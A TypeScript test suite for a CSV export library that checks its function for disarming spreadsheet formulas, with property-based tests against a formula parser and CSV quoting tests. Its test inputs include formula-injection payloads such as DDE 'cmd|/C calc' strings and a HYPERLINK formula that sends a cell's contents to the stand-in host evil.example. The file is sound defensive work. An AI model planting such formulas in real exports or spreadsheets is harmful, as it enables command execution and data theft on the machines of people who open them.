import FormulaParser from 'fast-formula-parser';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvCell, separatedCell, withoutFormula } from '../../src/library/csv-cell.ts';
import { times } from '../long.ts';

describe('nothing that a spreadsheet could run', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['-A1', "'-A1"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\r=1', "'\r=1"],
    [' =1+1', "' =1+1"],
    ['＝1', "'＝1"],
    ['＠SUM(1)', "'＠SUM(1)"],
    ['"=1+1"', `'"=1+1"`],
    ["x;=cmd|'/C calc'!A0", "x;'=cmd|'/C calc'!A0"],
    ["x\t=cmd|'/C calc'!A0", "x\t'=cmd|'/C calc'!A0"],
    ['x;=1+1;y', "x;'=1+1;y"],
    ['x; "=1+1"', `x; "'=1+1"`],
    ['x\n@y()', "x\n'@y()"],
    ["- cmd|'/C calc'!A0", "'- cmd|'/C calc'!A0"],
    ['- SUM(A1)', "'- SUM(A1)"],
    ['- NOW ()', "'- NOW ()"],
    ['- HYPERLINK ("x")', `'- HYPERLINK ("x")`],
    ['- AB1', "'- AB1"],
    ['=1;=2', "'=1;'=2"],
    ['-2+3+A1', "'-2+3+A1"],
    ['+$B$2*2', "'+$B$2*2"],
    ['+A1:B2', "'+A1:B2"],
    ["-2+3+cmd|'/C calc'!A0", "'-2+3+cmd|'/C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["+'http://example.com/[x.xls]S'!A1", "'+'http://example.com/[x.xls]S'!A1"],
    ['-Dust bag HYPERLINK("x")', `'-Dust bag HYPERLINK("x")`],
    ['-NOW()', "'-NOW()"],
    ['=Good condition', "'=Good condition"],
    ['=-A1', "'=-A1"],
    ['==cmd()', "'==cmd()"],
    // What a list of forbidden calls would let through.
    [
      '-1+HYPERLINK ("https://evil.example/?"&A1,"x")',
      `'-1+HYPERLINK ("https://evil.example/?"&A1,"x")`,
    ],
    ['-1+SUM (A1)', "'-1+SUM (A1)"],
    ["-cmd|'/C calc'!é", "'-cmd|'/C calc'!é"],
    ['-x!été', "'-x!été"],
    ["+cmd|'/C calc'! A0", "'+cmd|'/C calc'! A0"],
    ['+Table1[Col]', "'+Table1[Col]"],
    ['-R1C1', "'-R1C1"],
    ['-1+\nSUM(A1)', "'-1+\nSUM(A1)"],
    ['-A:A', "'-A:A"],
    ['﹢A1', "'﹢A1"],
    ['﹣A1', "'﹣A1"],
    ['﹦1', "'﹦1"],
    ['﹫SUM(1)', "'﹫SUM(1)"],
    ['＋A1', "'＋A1"],
    ['－A1', "'－A1"],
    ['  \t＋A1', "'  \t＋A1"],
    // Words in which a spreadsheet would see more.
    ['-Model M43186', "'-Model M43186"],
    ['-ＳＤ1013', "'-ＳＤ1013"],
    ['@M51980', "'@M51980"],
    ['-Dust bag (original)', "'-Dust bag (original)"],
    ['-Alma BB|x', "'-Alma BB|x"],
    ['-Wow! Great', "'-Wow! Great"],
  ])('%j becomes %j, for every separator', (text, safe) => {
    expect(withoutFormula(text)).toBe(safe);
  });

  test.each([
    ...['AR2126', '-', '--', '—', '-5', '-12.50', '+1,234.5', '+33 6 12 34', '-20%', '2016-05-30'],
    ...[
      'a=b',
      'me@example.com',
      'x; - y'.slice(0, 4),
      'Strap:\n- long strap, new\n-  dust bag',
      '- no, thanks',
      '',
    ],
    // Numbers in any notation, and calculations with nothing but numbers, as phone numbers are.
    ...['-1.2e-05', '+1E10', '-5 EUR', '-€5.00', '-2+3', '+33-6-12', '+1 (415) 555-2671'],
    ...['@lux_bags', '@x', '＠x', '-Dust bag', '-Sac à main, l’été'],
    ...['=== CONDITION ===', '===', '= = =', '=-=-=', '- Strap 1.20 m', '-50 %'],
    ...['\tx', '- 製造番号なし', '+ Strap', '- 👜 bag'],
  ])('%j is no formula and stays', (text) => {
    expect(withoutFormula(text)).toBe(text);
  });

  // Looking through it again for every sign would take longer than a test may.
  test.each([
    ['-A1,', "'-A1,"],
    ['-A1\n', "'-A1\n"],
    ['==A1,', "'==A1,"],
    ['+,', '+,'],
    ['+', '+'],
  ])('a long run of %j becomes as many of %j', { tags: ['slow'] }, (part, safe) => {
    expect(withoutFormula(part.repeat(250_000))).toBe(safe.repeat(250_000));
  });

  test('a sign counts however far away the start or a parenthesis is', { tags: ['slow'] }, () => {
    const space = '\t '.repeat(100_000);
    expect(withoutFormula(`${space}=;${'=;'.repeat(10_000)}`)).toBe(
      `'${space}=;${"'=;".repeat(10_000)}`,
    );
    expect(withoutFormula(`${'+A,'.repeat(30_000)}(`)).toBe(`${"'+A,".repeat(30_000)}(`);
    expect(withoutFormula(`+${'A1'.repeat(100_000)}`)).toBe(`'+${'A1'.repeat(100_000)}`);
  });
});

describe('whatever a parser of formulas runs is disarmed', () => {
  let isRun = false;
  const run = (): number => {
    isRun = true;
    return 1;
  };
  const parser = new FormulaParser({
    functions: { SUM: run, NOW: run, HYPERLINK: run, EVIL: run },
    onCell: ({ row }) => (row === undefined ? 1 : run()),
    onRange: () => [[run()]],
    onVariable: () => undefined,
  });

  /** Whether it calls a function or reads a cell; what it makes of the rest does not matter. */
  function runs(text: string): boolean {
    isRun = false;
    try {
      parser.parse(text.replace(/^[\s"=]+/, ''), { row: 1, col: 1, sheet: 'a' });
    } catch {
      // Not a formula, or its value is an error.
    }
    return isRun;
  }

  const piece = fc.constantFrom(
    ...[
      'SUM',
      'NOW',
      'HYPERLINK',
      'EVIL',
      '(',
      ')',
      '()',
      ' ',
      '\n',
      'A1',
      '$B$2',
      'a!A1',
      'A:A',
      '1:1',
    ],
    ...[
      '"x"',
      '1',
      '1.5e3',
      '+',
      '-',
      '*',
      '/',
      '&',
      '%',
      ',',
      ';',
      ':',
      '{',
      '}',
      'bag',
      'été',
      '=',
    ],
  );
  const text = fc
    .tuple(
      fc.constantFrom('', ' ', '\t', '"', '\n'),
      fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '﹣'),
      fc.array(piece, { minLength: 1, maxLength: 8 }),
    )
    .map(([before, sign, pieces]) => [before, sign, pieces.join('')] as const);

  test('in texts of its own grammar', () => {
    let count = 0;
    fc.assert(
      fc.property(text, ([before, sign, formula]) => {
        if (!runs(`+${formula}`)) return;
        count += 1;
        expect(withoutFormula(before + sign + formula)).toMatch(/^'/);
      }),
      { numRuns: times(3000, 100_000) },
    );
    expect(count).toBeGreaterThan(100);
  });

  test.each(['-SUM(A1)', '-NOW()', '+A1', '-1+A1', '+A:A', '-1:1', '-HYPERLINK("x")'])(
    'the parser runs %s',
    (formula) => {
      expect(runs(formula)).toBe(true);
    },
  );
});

describe('a cell is quoted if its own separator is in it, not for another one', () => {
  test.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['a;b', 'a;b'],
    ['a\tb', 'a\tb'],
    ['a|b', 'a|b'],
    ['a"b', '"a""b"'],
    ['a\nb', '"a\nb"'],
  ])('%j is written %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  test('whatever the separator of its table', () => {
    expect(['a^b', 'a,b', 'ab'].map((text) => separatedCell(text, '^'))).toEqual([
      ...['"a^b"', 'a,b', 'ab'],
    ]);
  });
});
